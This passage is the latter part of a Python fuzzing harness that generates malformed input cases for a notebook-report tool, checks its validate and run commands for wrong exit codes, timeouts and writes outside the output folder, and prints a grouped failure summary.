        os.killpg(proc.pid, signal.SIGKILL)
        proc.communicate()
        return None, [Failure(case.label, "no answer", f"run took over {timeout_s} s")]
    failures = _output_failures(case, output, proc.returncode)
    failures += [Failure(case.label, "run changed files outside --out", c)
                 for c in _changes(before, snapshot(case.root, skip=out))
                 + _changes(neighbours, snapshot(case.root.parent, skip=case.root))]
    return proc.returncode, failures


PATH_SENSITIVE = ("yaml: hostile-cut_id", "files: symlink", "files: sub-folder", "files: neighbour",
                  "files: wrong-case", "files: extra-file", "degenerate:")


def pick_run_cases(outcomes: dict[int, tuple], seed: int, k: int) -> list[int]:
    """``k`` case numbers for ``run``, fixed by the seed: half valid (first those that could lead a
    path out of ``--out`` or hold degenerate data), half refused; topped up from either when short."""
    rng = random.Random(f"{seed}:run")
    valid = sorted(n for n, (code, _) in outcomes.items() if code == 0)
    refused = sorted(n for n, (code, _) in outcomes.items() if code == 2)
    rng.shuffle(valid)
    rng.shuffle(refused)
    valid.sort(key=lambda n: not any(m.startswith(PATH_SENSITIVE) for m in outcomes[n][1]))
    chosen = valid[: k - k // 2] + refused[: k // 2]
    rest = [n for n in valid + refused if n not in chosen]
    return sorted(chosen + rest[: k - len(chosen)])


# ------------------------------------------------------------------------------------- main
def fuzz(seed: int, cases: range, runs: int, work: Path, keep: Path | None = None,
         log=print, notebooks: Path | None = None) -> list[Failure]:
    """Validate every case (and ``run`` ``runs`` of them, with the notebooks in ``notebooks``,
    by default one small notebook); return every failure found."""
    failures, outcomes = [], {}
    start = time.time()
    for n in cases:
        case = make_case(seed, n, work / f"case{n:05d}")
        code, found = check_validate(case)
        outcomes[n] = (code, case.mutations)
        failures += found
        if found and keep:
            shutil.copytree(case.root, keep / case.root.name, symlinks=True, dirs_exist_ok=True)
        shutil.rmtree(case.root)
        if log and (n - cases.start + 1) % 100 == 0:
            log(f"  {n - cases.start + 1}/{len(cases)} cases, {len(failures)} failures, "
                f"{time.time() - start:.0f} s")
    notebooks = notebooks or write_quick_notebook(work / "notebooks")
    for n in pick_run_cases(outcomes, seed, runs):
        case = make_case(seed, n, work / f"run{n:05d}")
        started = time.time()
        code, found = check_run(case, notebooks)
        if log:
            log(f"  run case {n}: exit {code} in {time.time() - started:.0f} s; {case.mutations}")
        failures += found
        if found and keep:
            shutil.copytree(case.root, keep / case.root.name, symlinks=True, dirs_exist_ok=True)
        shutil.rmtree(case.root)
    return failures


def summary(failures: list[Failure]) -> str:
    groups: dict[tuple, list[Failure]] = {}
    for f in failures:
        groups.setdefault(f.key, []).append(f)
    lines = [f"{len(failures)} failures, {len(groups)} distinct:"]
    for same in sorted(groups.values(), key=len, reverse=True):
        numbers = sorted({int(re.search(r"case=(\d+)", f.case).group(1)) for f in same})
        lines.append(f"- {len(same)}x {same[0]}\n    all cases: {', '.join(map(str, numbers[:40]))}"
                     + (" ..." if len(numbers) > 40 else ""))
    return "\n".join(lines)


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--cases", type=int, default=2000, help="number of cases (default 2000)")
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--first", type=int, default=0, help="number of the first case")
    parser.add_argument("--case", type=int, default=None, help="build and check only this case")
    parser.add_argument("--runs", type=int, default=10, help="cases also given to `run` (default 10)")
    parser.add_argument("--keep", type=Path, default=None, help="copy failing cases into this folder")
    parser.add_argument("--notebooks", type=Path, default=None,
                        help="notebooks for `run` (default: one small notebook; notebooks/ runs the real "
                             "report)")
    args = parser.parse_args(argv)
    os.environ.setdefault("MPLBACKEND", "Agg")
    if args.case is not None:
        with tempfile.TemporaryDirectory() as tmp:
            case = make_case(args.seed, args.case, Path(tmp) / f"case{args.case:05d}")
            print(case.label)
            code, found = check_validate(case)
            print(f"validate: exit {code}")
            if args.runs:
                notebooks = args.notebooks.resolve() if args.notebooks else None
                rc, more = check_run(case, notebooks or write_quick_notebook(Path(tmp) / "notebooks"))
                print(f"run: exit {rc}")
                found += more
            if args.keep:
                shutil.copytree(case.root, args.keep, symlinks=True, dirs_exist_ok=True)
            print("\n".join(map(str, found)) or "ok")
            return 1 if found else 0
    if args.keep:
        args.keep.mkdir(parents=True, exist_ok=True)
    print(f"fuzz: seed {args.seed}, cases {args.first} to {args.first + args.cases - 1}, {args.runs} runs")
    with tempfile.TemporaryDirectory(prefix="msc-fuzz-") as tmp:
        failures = fuzz(args.seed, range(args.first, args.first + args.cases), args.runs, Path(tmp),
                        args.keep, notebooks=args.notebooks.resolve() if args.notebooks else None)
    print(summary(failures))
    return 1 if failures else 0


if __name__ == "__main__":
    sys.exit(main())
